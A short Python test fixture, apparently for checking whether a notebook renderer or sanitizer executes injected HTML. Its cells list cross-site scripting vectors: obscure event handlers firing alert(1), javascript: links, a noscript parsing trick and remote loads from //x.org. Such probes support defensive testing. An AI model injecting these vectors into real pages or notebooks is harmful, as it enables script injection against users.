"""Elements that act without a script, or by handlers that few have heard of."""

HARMLESS = True
FLAW, TRICK = "V3", "injection"
CELLS = {
    "count": """from IPython.display import HTML, display
for text in ("<details open ontoggle=alert(1)>a</details>", "<marquee onstart=alert(1)>b</marquee>",
             "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
             "<math><maction actiontype=statusline href='javascript:alert(1)'>c</maction></math>",
             "<svg><animate onbegin=alert(1) attributeName=x /></svg>", "<isindex action=j>",
             "<img src=x srcset='//x.org 1x' lowsrc=//x.org>", "<body background='//x.org'>",
             "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript>"
             "<img src=x onerror=alert(1)>'></noscript>", "<p is=x-y slot=z contenteditable>d</p>"):
    display(HTML(text))""",
    "essay": "<details ontoggle=alert(1)>a</details> <video poster='//x.org' onloadstart=alert(1)>",
}
